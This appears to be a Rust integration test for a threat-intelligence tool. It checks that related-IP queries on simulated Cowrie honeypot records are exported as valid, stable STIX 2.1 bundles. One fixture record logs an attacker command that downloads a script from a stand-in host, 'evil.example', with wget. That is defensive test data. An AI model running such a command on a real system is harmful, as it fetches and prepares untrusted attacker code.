//! `--stix`: an answer as a bundle that another suite takes in.

use std::collections::BTreeSet;
use std::process::Command;

use cybexp_testkit::now;
use serde_json::{Value, json};
use test_needs::Need;

use crate::{CYBEXP, SiteWithApi, json_of, run};

/// Collects the attributes in documents that `filter test --json` prints.
fn attributes(documents: &Value) -> BTreeSet<String> {
    let documents = documents.as_array().unwrap().iter();
    let attributes = documents.filter(|one| one["itype"] == "attribute");
    attributes
        .map(|one| format!("{}={}", one["sub_type"].as_str().unwrap(), one["data"]))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_is_passed_on_as_a_bundle() {
    let up = SiteWithApi::new(&["archive", "analytics", "report"]).await;
    let at = now();
    let login = json!({
        "eventid": "cowrie.login.failed", "session": "8d0c", "src_ip": "203.0.113.9", "sensor": "london",
        "username": "root", "password": "it's \\ \"x\"", "timestamp": at,
    });
    let command = json!({
        "eventid": "cowrie.command.input", "session": "8d0c", "src_ip": "203.0.113.9", "sensor": "london",
        "input": "wget http://evil.example/x.sh; echo 'a'", "timestamp": at + 1.0,
    });
    let records = [login.to_string(), command.to_string()];
    let [one, other] = records.each_ref().map(|record| ("cowrie", record.as_str()));
    up.have("--whole", [one, other], 2).await;
    let bundle = up.run(&["query", "related", "ipv4", "203.0.113.9", "--stix"]);
    let text = bundle.good();
    let bundle = json_of(&text);
    assert_eq!(bundle["type"], "bundle");
    let again = up.run(&["query", "related", "ipv4", "203.0.113.9", "--stix"]);
    let ids = |bundle: &Value| -> BTreeSet<String> {
        let objects = bundle["objects"].as_array().unwrap().iter();
        objects.map(|one| one["id"].to_string()).collect()
    };
    assert_eq!(
        ids(&json_of(&again.good())),
        ids(&bundle),
        "the same objects"
    );

    // read by ours, it has the attributes that the records made
    let mut expected = BTreeSet::new();
    for record in &records {
        let args = ["filter", "test", "-", "--typetag", "cowrie", "--json"];
        let made = run(Command::new(CYBEXP).args(args), record);
        expected.extend(attributes(&json_of(&made.good())));
    }
    let args = ["filter", "test", "-", "--typetag", "stix2", "--json"];
    let made = run(Command::new(CYBEXP).args(args), &text);
    let made = attributes(&json_of(&made.good()));
    let lost: Vec<_> = expected.difference(&made).collect();
    assert!(lost.is_empty(), "{lost:?} of {made:?}");

    // nothing is told of what nobody has seen
    let none = up.run(&["query", "related", "ipv4", "203.0.113.10", "--stix"]);
    let none = json_of(&none.good());
    let kinds: BTreeSet<&str> = none["objects"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|one| one["type"].as_str().unwrap())
        .collect();
    assert!(!kinds.contains("observed-data"), "{none}");

    for (args, code, told) in [
        (&["--tlp", "green"][..], 2, "--stix"),
        (&["--stix", "--tlp", "crimson"], 2, "crimson"),
        (&["--stix", "--json"], 2, "cannot be used with"),
    ] {
        let args = [&["query", "related", "ipv4", "203.0.113.9"], args].concat();
        let refused = up.run(&args);
        assert_eq!(refused.code, code, "{args:?}: {}", refused.err);
        assert!(refused.err.contains(told), "{args:?}: {}", refused.err);
    }
    validate(&up.file("bundle.json", &text));
}

/// Has OASIS's validator read a bundle, with all checks of what the specification recommends.
fn validate(path: &str) {
    const CHECK: &str = r#"
import sys
from stix2validator import validate_file, ValidationOptions
results = validate_file(sys.argv[1], ValidationOptions(strict=True, version="2.1", strict_types=False))
told = [str(e) for r in results.object_results for e in (r.errors or []) + (r.warnings or [])]
assert results.is_valid and not told and not results.fatal, (told, results.fatal)
"#;
    let imports = Command::new("python3")
        .args(["-c", "import stix2validator"])
        .output();
    if !imports.is_ok_and(|out| out.status.success()) {
        return Need::Python.is_lacking("python3 cannot import stix2validator");
    }
    let out = Command::new("python3").args(["-c", CHECK, path]).output();
    let out = out.unwrap();
    let told = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{told}");
}
